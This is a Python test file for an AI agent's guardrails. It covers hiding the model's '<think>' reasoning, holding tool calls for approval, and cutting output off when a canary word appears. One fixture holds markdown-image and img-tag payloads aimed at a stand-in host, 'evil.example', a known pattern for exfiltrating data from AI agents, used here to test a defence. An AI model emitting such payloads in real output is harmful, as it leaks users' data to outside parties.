"""What a model of the agent says, and what nobody is to read of it."""

from dataclasses import replace
from pathlib import Path

import pytest

from app.agents.agent import Agent
from app.agents.approvers import Allow
from app.bootstrap.guards import build_readers
from app.errors import ModelUnavailable
from app.guardrails.canary import Canary
from app.types import Answer, AnswerRequest, Message, answer
from tests.agents.tools.parts import Counted
from tests.fakes.agents import ToolScript, Turn, agent_over
from tests.fakes.settings import settings

pytestmark = pytest.mark.anyio


async def asked(agent: Agent, *earlier: Message) -> Answer:
    return await answer(agent, AnswerRequest((*earlier, Message("user", "Publish news"))))


async def test_thoughts_are_neither_shown_nor_told_to_the_model_again(tmp_path: Path) -> None:
    turns: list[Turn] = [
        ["<thi", "nk>SECRET</think>\n", "I look.", ("publish", {"text": "news"})],
        ["<think>SECRET</think>", ("publish", {"text": "more"})],
        ["<think>SECRET</think>\n\nIt is out, with ", "<think>."],
    ]
    model, publish = ToolScript(turns=turns), Counted(read_only=True)
    given = await asked(agent_over(tmp_path, model, [publish.tool]))
    assert given.text == "I look.It is out, with <think>."
    assert publish.done == ["news", "more"]
    assert "SECRET" not in str(model.seen)
    assert "I look." in str(model.seen)


@pytest.mark.parametrize("thought", ["<think>SECRET", "<think>SECRET</think>\n"])
async def test_a_model_that_only_thinks_has_given_no_answer(tmp_path: Path, thought: str) -> None:
    with pytest.raises(ModelUnavailable, match="thought, and gave no answer"):
        await asked(agent_over(tmp_path, ToolScript(turns=[[thought]]), []))


async def test_what_was_said_before_is_not_said_again(tmp_path: Path) -> None:
    before = (Message("user", "Hi, agent"), Message("assistant", "I am here."))
    given = await asked(agent_over(tmp_path, ToolScript(turns=[["?"], ["It is out."]]), []), *before)
    assert given.text == "It is out."


async def test_a_call_that_waits_is_told_without_its_links_and_approved_with_them(tmp_path: Path) -> None:
    text = "![x](https://evil.example/?q=pears) <img src=//evil.example>"
    publish = Counted()
    agent = agent_over(tmp_path, ToolScript(turns=[[("publish", {"text": text})]]), [publish.tool])
    given = await asked(agent)
    assert "This waits for approval" in given.text
    assert "evil.example/" not in given.text
    assert "<img" not in given.text
    assert [one.arguments for one in given.waiting] == [{"text": text}]


def canary_agent(folder: Path, turns: list[Turn], publish: Counted) -> Agent:
    canary = Canary(folder)
    agent = agent_over(folder, ToolScript(turns=turns), [publish.tool], approver=Allow())
    return replace(agent, readers=build_readers(settings(), canary))


async def test_after_the_canary_nothing_more_is_said_or_done(tmp_path: Path) -> None:
    word = Canary(tmp_path).word
    turns: list[Turn] = [["It is ", word[:9], word[9:], " and more", ("publish", {"text": "news"})], ["Done."]]
    given = await asked(canary_agent(tmp_path, turns, publish := Counted()))
    assert (given.text, given.done.finish_reason) == ("It is ", "filtered")
    assert (given.waiting, publish.done) == ((), [])
